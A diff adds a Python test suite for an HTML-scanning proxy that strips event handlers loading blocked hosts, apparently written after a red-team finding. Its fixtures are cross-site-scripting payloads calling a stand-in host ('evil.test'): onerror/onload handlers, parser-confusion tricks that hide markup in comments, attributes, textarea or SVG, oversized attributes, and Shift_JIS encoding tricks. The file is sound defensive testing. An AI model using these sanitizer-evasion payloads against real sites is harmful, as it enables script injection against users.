@@ -1,0 +1,263 @@
+"""Event handlers are placed in the start tags a browser builds, and the fast path's
+element caches hold only under everything a verdict depends on (red team RT-A).
+
+- A ``<script`` that is no script element (in a comment, an attribute value,
+  ``<textarea>``, ``<title>``...) used to make the handler search skip everything up
+  to a ``</script>`` as "script text"; a ``<script>`` in SVG reads its content as
+  markup (an ``<img>`` there breaks out and its ``onerror`` runs).
+- The start tag around a handler used to be looked for at most 16 ``<`` or 16 KB
+  back: a long or ``<``-laden attribute value before the handler hid it.
+- The same bytes read as Shift_JIS and windows-1252 are different scripts and URLs:
+  a verdict remembered under one encoding must not decide the other.
+
+The class is proved by a generated differential test: documents assembled from the
+constructs that hide markup, around handlers that load a blocked host; after
+``strip`` neither html5lib nor Lexbor (scripting on and off) builds an element with
+such a handler.
+"""
+
+from __future__ import annotations
+
+import os
+import sys
+from pathlib import Path
+from typing import Any
+
+import html5lib
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+from hypothesis.utils.conventions import not_set
+from selectolax.lexbor import LexborHTMLParser
+
+sys.path.insert(0, str(Path(__file__).parent))
+from test_htmlscan_hiding import HIDERS  # noqa: E402
+
+from proxy_addons.core.htmlscan import HandlersUnplaced, Scanner  # noqa: E402
+
+from .test_htmlscan import blocker  # noqa: E402
+
+PAGE = "http://site.test/p.html"
+H = "<img src=x onerror=\"import('//evil.test/x.js')\">"
+
+
+def scanner(**kw: Any) -> Scanner:
+    return Scanner(blocker({"evil.test"}), **kw)
+
+
+def strip(body: bytes, *, fast_path: bool = True, **kw: Any) -> tuple[bytes, list[Any]]:
+    return scanner(fast_path=fast_path, **kw).strip(body, PAGE, "text/html", comment=False)
+
+
+# ---- a "<script" that is no script element hides nothing
+
+FAKE_SCRIPTS = {
+    "comment": f"<!-- <script> -->{H}<!-- </script> -->",
+    "comment-no-end": f"<!--<script>-->{H}",
+    "attribute": f"<a title='<script>'>a</a>{H}<a title='</script>'>b</a>",
+    "attribute-no-end": f"<a title='<script>'>a</a>{H}",
+    "textarea": f"<textarea><script></textarea>{H}<textarea></script></textarea>",
+    "title": f"<title><script></title><p>{H}<!--</script>-->",
+    "style": f"<style><script></style>{H}<style></script></style>",
+    "xmp": f"<xmp><script></xmp>{H}",
+    "noembed": f"<noembed><script></noembed>{H}",
+    "bogus-comment": f"<!x <script>>{H}",
+    "processing-instruction": f"<?x <script>>{H}",
+    "end-tag": f"</x <script>>{H}",
+    "script-in-svg": f"<svg><script>{H}</script></svg>",
+    "alt-value-script": f'<img alt="<script src=hidden>">{H}',
+    "uppercase": f"<!-- <SCRIPT> -->{H}<!-- </SCRIPT> -->",
+}
+
+
+@pytest.mark.parametrize("fast_path", [True, False])
+@pytest.mark.parametrize("name", sorted(FAKE_SCRIPTS))
+def test_a_script_that_is_no_element_hides_no_handler(name: str, fast_path: bool) -> None:
+    out, findings = strip(FAKE_SCRIPTS[name].encode(), fast_path=fast_path)
+    assert [(f.element, f.removed) for f in findings] == [("img", True)], findings
+    assert b"evil.test" not in out
+
+
+def test_a_handler_inside_a_real_scripts_text_is_the_scripts_business() -> None:
+    # The kept script is not cut: its "<img onerror" is JavaScript's string.
+    body = (
+        b"<script>var s = '<img src=x onerror=\"alert(1)\">'; var ioc = 'evil.test';</script>"
+        b"<!-- <img src=x onerror=\"import('//evil.test/x.js')\"> -->"
+        b"<textarea><img src=x onerror=\"import('//evil.test/x.js')\"></textarea>"
+    )
+    for fast_path in (True, False):
+        out, findings = strip(body, fast_path=fast_path)
+        assert out is body
+        assert [f.reason for f in findings] == ["mention"]
+
+
+# ---- a handler is placed however long or "<"-laden its tag is
+
+TAG = "src=x onerror=\"import('//evil.test/x.js')\">"
+LONG_TAGS = {
+    "many-lt": "<img alt='" + "<" * 20 + "' " + TAG,
+    "many-tags-in-value": "<img alt='" + "<b>" * 20 + "' " + TAG,
+    "many-tags-unquoted": "<img alt=" + "<b" * 40 + " " + TAG,
+    "long-value": "<img alt='" + "A" * 17000 + "' " + TAG,
+    "long-unquoted": "<img alt=" + "A" * 17000 + " " + TAG,
+    "many-attrs": "<img " + " ".join(f"data-a{i}=1" for i in range(3000)) + " " + TAG,
+    "long-in-svg": "<svg><a title='" + "<" * 40000 + "' " + TAG + "</svg>",
+    "long-interesting-tag": "<iframe title='" + "<" * 20000 + "' " + TAG + "</iframe>",
+    "both": "<!-- <script> -->" + "<img alt='" + "<b>" * 6000 + "' " + TAG,
+}
+
+
+@pytest.mark.parametrize("fast_path", [True, False])
+@pytest.mark.parametrize("name", sorted(LONG_TAGS))
+def test_a_handler_is_placed_however_long_its_tag(name: str, fast_path: bool) -> None:
+    body = ("<p>before</p>" + LONG_TAGS[name] + "<p>after</p>").encode()
+    out, findings = strip(body, fast_path=fast_path)
+    assert [f.removed for f in findings] == [True], findings
+    assert b"evil.test" not in out and out.endswith(b"<p>after</p>")
+
+
+def test_a_handler_in_a_long_attribute_value_is_no_handler() -> None:
+    # "onerror=" inside another attribute's value: no attribute, nothing cut.
+    body = ("<a title='" + "<" * 20000 + " onerror=\"import('//evil.test/x.js')\"'>x</a>").encode()
+    out, findings = strip(body)
+    assert out is body and findings == []
+
+
+def test_a_page_past_the_walks_bound_with_a_loading_handler_is_refused() -> None:
+    # 300 <noscript>: more alternative readings than the scanner runs; where it cannot
+    # place a handler for sure it refuses the page (the proxy answers 502).
+    body = ("<noscript></noscript>" * 300 + H).encode()
+    with pytest.raises(HandlersUnplaced):
+        strip(body)
+    mention = (
+        "<noscript></noscript>" * 300 + "<img src=x onerror=\"alert('evil.test')\">"
+    ).encode()
+    out, findings = strip(mention)
+    assert out is mention and [f.reason for f in findings] == ["mention"]
+    clean = ("<noscript></noscript>" * 300 + "<img src=x onerror='alert(1)'>").encode()
+    assert strip(clean) == (clean, [])
+
+
+# ---- differential: after strip no reference parser builds a loading handler
+
+EVIL = "evil.test"
+HANDLERS = [
+    "<img src=x onerror=\"import('//evil.test/i{i}.js')\">",
+    "<img/src/onerror=location='//evil.test/j{i}'>",
+    "<svg onload=\"fetch('//evil.test/s{i}')\"></svg>",
+    "<svg><a onclick=\"fetch('//evil.test/a{i}')\">a</a></svg>",
+    "<p title='<<<' onclick=\"fetch('//evil.test/p{i}')\">p</p>",
+    "<img alt='<b>' src=x ONERROR=\"fetch('//evil.test/u{i}')\">",
+    "<iframe onload=\"fetch('//evil.test/f{i}')\"></iframe>",
+    "<script onload=\"fetch('//evil.test/c{i}')\" src=ok.js></script>",
+    '<img src=x onerror="alert({i})">',
+]
+PIECES = [*HIDERS, "<script>", "<a title='<script>'>", "<svg><script>", "</svg>"]
+
+
+def _html5lib_handlers(doc: str) -> list[str]:
+    found = []
+    for scripting in (True, False):
+        tree = html5lib.HTMLParser(namespaceHTMLElements=True).parse(doc, scripting=scripting)
+        for el in tree.iter():
+            for k, v in el.attrib.items():
+                if isinstance(k, str) and k.lower().startswith("on") and EVIL in v:
+                    found.append(f"html5lib scripting={scripting}: {el.tag} {k}={v!r}")
+    return found
+
+
+def _lexbor_handlers(doc: str) -> list[str]:
+    found = []
+    for scripting in (True, False):
+        tree = LexborHTMLParser(doc, scripting=scripting)
+        stack = [tree.root] if tree.root is not None else []
+        while stack:
+            node = stack.pop()
+            if node.is_element_node:
+                for k, v in node.attributes.items():
+                    if k.lower().startswith("on") and v is not None and EVIL in v:
+                        found.append(f"lexbor scripting={scripting}: {node.tag} {k}={v!r}")
+                if (node.tag or "").lower() == "template":
+                    stack.extend(node.template_fragments())
+            child = node.child
+            while child is not None:
+                stack.append(child)
+                child = child.next
+    return found
+
+
+def _no_handler_survives(doc: str) -> None:
+    body = doc.encode()
+    for fast_path in (True, False):
+        out, findings = strip(body, fast_path=fast_path)
+        text = out.decode()
+        left = _html5lib_handlers(text) + _lexbor_handlers(text)
+        assert not left, f"{left} in {text!r} (from {doc!r}; findings {findings})"
+
+
+EXAMPLES = [*FAKE_SCRIPTS.values(), *(v for k, v in LONG_TAGS.items() if "long" not in k)]
+
+
+@pytest.mark.parametrize("doc", EXAMPLES)
+def test_handlers_after_hiding_constructs_are_stripped_for_both_parsers(doc: str) -> None:
+    _no_handler_survives(doc)
+
+
+@st.composite
+def _documents(draw: st.DrawFn) -> str:
+    parts: list[str] = []
+    for i in range(draw(st.integers(1, 16))):
+        if draw(st.integers(0, 2)) == 0:
+            parts.append(draw(st.sampled_from(HANDLERS)).format(i=i))
+        else:
+            parts.append(draw(st.sampled_from(PIECES)))
+    return "".join(parts)
+
+
+# The same documents on every run (JG_EXPLORE=1 draws new ones).
+@settings(
+    max_examples=400,
+    deadline=None,
+    derandomize=not os.environ.get("JG_EXPLORE"),
+    database=None if not os.environ.get("JG_EXPLORE") else not_set,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+@given(_documents())
+@example("<!-- <script> -->" + HANDLERS[0].format(i=0))
+@example("<a title='<script>'>" + HANDLERS[1].format(i=0))
+def test_generated_documents_keep_no_loading_handler(doc: str) -> None:
+    _no_handler_survives(doc)
+
+
+# ---- the fast path's caches: the encoding is part of what an element is
+
+# 0x81 0x42 is Shift_JIS's ideographic full stop, a dot to the URL parser
+# ("evil.test"); in windows-1252 it is no dot. 0x83 0x5C is one Shift_JIS character
+# that eats the backslash after it: the script's escapes read differently.
+SJIS = {
+    "script-src": b'<script src="http://evil\x81\x42test/x.js"></script>',
+    "script-text": b"<script>import('/'+('\x83"
+    + b"\\" * 6
+    + b"x65vil.test/x.js').slice(1))</script>",
+    "iframe": b'<iframe src="http://evil\x81\x42test/"></iframe>',
+    "svg-script": b'<svg><script href="http://evil\x81\x42test/x.js"></script></svg>',
+    "meta-refresh": b'<meta http-equiv=refresh content="0;url=http://evil\x81\x42test/">',
+}
+
+
+@pytest.mark.parametrize("name", sorted(SJIS))
+def test_a_verdict_remembered_under_one_encoding_does_not_decide_another(name: str) -> None:
+    body = b"<!doctype html><p>hi</p>" + SJIS[name]
+    sjis, latin = "text/html; charset=shift_jis", "text/html; charset=windows-1252"
+    cold = scanner(cache_entries=0)
+    assert cold.scan(body, PAGE, latin) == []
+    expected = cold.scan(body, PAGE, sjis)
+    assert [f.removed for f in expected] == [True]
+    warm = scanner()
+    for _ in range(2):  # warm under windows-1252, then Shift_JIS, twice over
+        assert warm.scan(body, PAGE, latin) == []
+        assert warm.scan(body, PAGE, sjis) == expected
+    warm = scanner()
+    for _ in range(2):  # and the other order
+        assert warm.scan(body, PAGE, sjis) == expected
+        assert warm.scan(body, PAGE, latin) == []
